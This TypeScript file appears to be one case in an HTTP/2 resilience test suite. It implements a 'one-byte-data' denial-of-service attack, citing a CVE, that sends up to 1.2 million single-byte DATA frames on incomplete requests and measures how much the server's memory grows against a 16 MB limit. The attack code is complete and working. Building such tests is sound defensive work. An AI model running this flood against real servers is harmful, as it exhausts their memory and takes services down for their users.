import { setTimeout as pause } from 'node:timers/promises';
import { Flags, frame, requestBlock } from '../../support/http2-bytes.js';
import { attackerAddress, MEGABYTE, megabytes } from '../arena.js';
import type { Attack } from '../attack.js';
import { Paths } from '../wire/peer.js';
import { Persistent, written } from './http2.js';

const FRAMES = 1_200_000;
/** A request that is never complete: its length says 4,000 bytes. */
const REQUEST_BYTES = 4_000;
const CALLS_AT_ONCE = 16;
const LONGEST_MS = 20_000;
const GROWTH_LIMIT = 16 * MEGABYTE;

/** Requests in pieces of one byte, each of which is an object where chunks are kept. */
export const oneByteData: Attack = {
  name: 'one-byte-data',
  source: 'CVE-2026-84304',
  limit: '1.2 M frames: + ≤ 16 MB',
  honestBytes: 12_000_000,
  run: async (arena) => {
    const attacker = new Persistent(arena, attackerAddress(80));
    let sent = 0;
    const growth = await arena.growth(async () => {
      const until = performance.now() + LONGEST_MS;
      while (sent < arena.count(FRAMES) && performance.now() < until) {
        const stream = await attacker.stream();
        if (stream === undefined) {
          await pause(20);
          continue;
        }
        for (let id = 1; !stream.destroyed && sent < arena.count(FRAMES); id += 2 * CALLS_AT_ONCE) {
          for (let call = 0; call < CALLS_AT_ONCE && !stream.destroyed; call += 1) {
            await written(stream, dribbledRequest(id + 2 * call));
            sent += REQUEST_BYTES;
          }
          if (performance.now() > until) break;
        }
      }
    });
    const { connections, streams } = attacker;
    return {
      figure: `+ ${megabytes(growth)}, ${sent} frames in ${streams} streams of ${connections} connections`,
      ok: growth <= GROWTH_LIMIT,
    };
  },
};

function dribbledRequest(id: number): Buffer {
  const prefix = Buffer.from([0, 0, 0, REQUEST_BYTES >> 8, REQUEST_BYTES & 255]);
  const byte = frame('data', id, Buffer.from([1]));
  return Buffer.concat([
    frame('headers', id, requestBlock(Paths.getBlocks), Flags.END_HEADERS),
    frame('data', id, prefix),
    ...Array.from({ length: REQUEST_BYTES - 1 }, () => byte),
  ]);
}
